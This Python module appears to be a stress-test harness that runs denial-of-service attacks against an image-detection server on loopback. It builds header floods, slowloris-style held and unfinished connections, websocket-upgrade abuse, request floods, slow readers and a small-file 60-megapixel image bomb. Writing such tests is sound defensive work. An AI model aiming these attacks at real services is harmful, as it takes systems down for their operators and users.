"""Callers that mean harm, all from one address, each until its time is over."""

import contextlib
import io
import itertools
import socket
import threading
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

import httpx
from PIL import Image

ATTACKER = "127.0.0.66"
_WAIT_S = 30.0
_LINE = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n"
_POST = b"POST /predict?store=0 HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: image/jpeg\r\n"
_BOMB_WH = (7700, 7700)


@dataclass(slots=True)
class Target:
    """The server that is attacked, a good photo, and whether it is over."""

    host: str
    port: int
    photo: bytes
    over: threading.Event
    large: str = ""
    bomb: bytes = field(default=b"", repr=False)

    def prepare(self) -> None:
        """Keep a photo of 60 megapixels, whose file is small."""
        buffer = io.BytesIO()
        Image.new("RGB", _BOMB_WH, (200, 30, 30)).save(buffer, "WEBP", lossless=True)
        self.bomb = buffer.getvalue()
        buffer = io.BytesIO()
        Image.effect_noise((4000, 3000), 60).convert("RGB").save(buffer, "PNG", compress_level=1)
        with self.client() as client:
            answer = client.post("/predict", content=buffer.getvalue(), headers={"Content-Type": "image/png"})
        self.large = f"/api/detections/{answer.headers['X-Detection-Id']}"

    def client(self) -> httpx.Client:
        transport = httpx.HTTPTransport(local_address=ATTACKER)
        return httpx.Client(
            transport=transport, base_url=f"http://{self.host}:{self.port}", timeout=60, trust_env=False
        )

    def connect(self) -> socket.socket:
        opened = socket.create_connection((self.host, self.port), timeout=_WAIT_S, source_address=(ATTACKER, 0))
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        return opened


def _flood(begun: bytes, piece: bytes) -> Callable[[Target], None]:
    """Send pieces for ever, on a few connections, anew where one is closed."""

    def once(target: Target) -> None:
        with contextlib.suppress(OSError), target.connect() as opened:
            opened.sendall(begun)
            while not target.over.is_set():
                opened.sendall(piece)

    return _again_and_again(once, 4)


def _held(send: Callable[[Target], bytes], count: int) -> Callable[[Target], None]:
    """Open many connections, send something on each, and hold them, anew where they are closed."""

    def attack(target: Target) -> None:
        with contextlib.ExitStack() as stack:
            while not target.over.is_set():
                for _ in range(count):
                    if target.over.is_set():
                        break
                    with contextlib.suppress(OSError):
                        stack.enter_context(target.connect()).sendall(send(target))
                target.over.wait(3)
                stack.close()

    return attack


def _again_and_again(once: Callable[[Target], None], workers: int) -> Callable[[Target], None]:
    def work(target: Target) -> None:
        while not target.over.is_set():
            with contextlib.suppress(OSError, httpx.HTTPError):
                once(target)

    def attack(target: Target) -> None:
        with ThreadPoolExecutor(workers) as pool:
            list(pool.map(work, [target] * workers))

    return attack


def _post(photo: Callable[[Target], bytes], path: str) -> Callable[[Target], None]:
    def once(target: Target) -> None:
        with target.client() as client:
            while not target.over.is_set():
                client.post(path, content=photo(target), headers={"Content-Type": "image/jpeg"})

    return once


def _annotated(target: Target) -> None:
    with target.client() as client:
        for number in itertools.count(1):
            if target.over.is_set():
                break
            client.get(f"{target.large}/annotated?threshold=0.{number:06d}")


def _photo_request(target: Target) -> bytes:
    return f"GET {target.large}/photo HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()


def _announced(target: Target) -> bytes:
    return _POST + b"Content-Length: 1000000\r\n\r\n" + target.photo[:1000]


_UPGRADE = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: YQ==\r\n"

ATTACKS: dict[str, Callable[[Target], None]] = {
    "small headers": _flood(_LINE, b"X-A: b\r\n" * 4096),
    "endless header": _flood(_LINE + b"X-A: ", b"a" * 65_536),
    "trailers": _flood(_POST + b"Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n", b"X-A: b\r\n" * 4096),
    "idle connections": _held(lambda _: b"GET", 1500),
    "upgrades with bodies": _held(lambda _: _POST + _UPGRADE + b"Content-Length: 9\r\n\r\n", 100),
    "unfinished bodies": _held(_announced, 900),
    "80 requests at once": _again_and_again(_post(lambda target: target.photo, "/predict?store=0"), 80),
    "small files of 60 megapixels": _again_and_again(_post(lambda target: target.bomb, "/predict?store=0"), 12),
    "60 megapixels, kept": _again_and_again(_post(lambda target: target.bomb, "/predict"), 4),
    "readers of nothing": _held(
        lambda target: f"GET {target.large}/photo HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode(), 60
    ),
    "pictures": _again_and_again(_annotated, 60),
}
